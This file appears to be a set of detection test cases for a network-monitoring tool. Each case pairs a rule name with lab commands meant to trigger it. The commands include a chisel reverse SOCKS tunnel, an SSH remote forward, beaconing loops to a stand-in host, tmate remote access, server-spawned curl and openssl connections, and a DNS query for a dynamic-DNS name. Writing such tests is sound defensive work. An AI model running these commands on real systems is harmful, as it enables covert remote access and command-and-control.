## Tunnel started
#also Executable run from a scratch folder
#also Tool of attackers started
#setup stubs /tmp/chisel
/tmp/chisel client 203.0.113.9:8080 R:socks
## Port made reachable from outside by SSH
ssh -o BatchMode=yes -N -R 2222:localhost:22 10.9.8.7
## Hidden network used
#also Executable run from a scratch folder
#setup stubs /tmp/tor
/tmp/tor -f x
## Socket of ICMP made by a stranger
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'
## Answers taken from DNS texts
ask_dns TXT 32 8
## Call home at regular times
#also Executable run from a scratch folder
#setup cp /opt/lab/connect /tmp/agent
for n in $(seq 1 8); do /tmp/agent tcp4 203.0.113.9 443; sleep 2.5; done
## Download at regular times
for n in $(seq 1 8); do curl -s http://203.0.113.9/; sleep 2.5; done
## Connections at regular times
#also Code without a file connects to an address without a name
for n in $(seq 1 10); do python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 443))'; sleep 2.3; done
## Place to drop data asked for
timeout 1 python3 -c 'import socket
q = bytes.fromhex("000101000001000000000000") + b"\x08transfer\x02sh\0\0\1\0\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ("10.9.8.1", 53))'
## Download tool started by a server
#also Shell of a server connects out
#also Shell started by a network server
server 'curl -s http://10.9.8.7/x'
## Program in a scratch folder waits for callers
#also Executable run from a scratch folder
#setup cp /opt/lab/sockets /tmp/agent
/tmp/agent bind tcp4 0.0.0.0 4447 5
## Tool for access from afar started
#setup stubs /usr/bin/tmate
tmate -F
## Tool for access from afar started by a server's command
#also Shell started by a network server
#also Tool for access from afar started
#setup stubs /usr/bin/tmate
server 'tmate -F'
## Names that don't exist asked again and again
#setup refuse_names
ask_names 45
## Name of a service for changing addresses asked for
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex("000101000001000000000000") + b"\x04evil\x07duckdns\x03org\0\0\1\0\1", ("10.9.8.1", 53))'
## Packet socket of a stranger
#also Executable run from a scratch folder
cp /opt/lab/sockets /tmp/x; /tmp/x socket 17 3 768
## Encrypted connection opened by a server's command
#also Shell of a server connects out
#also Shell started by a network server
server 'openssl s_client -quiet -connect 203.0.113.9:443'
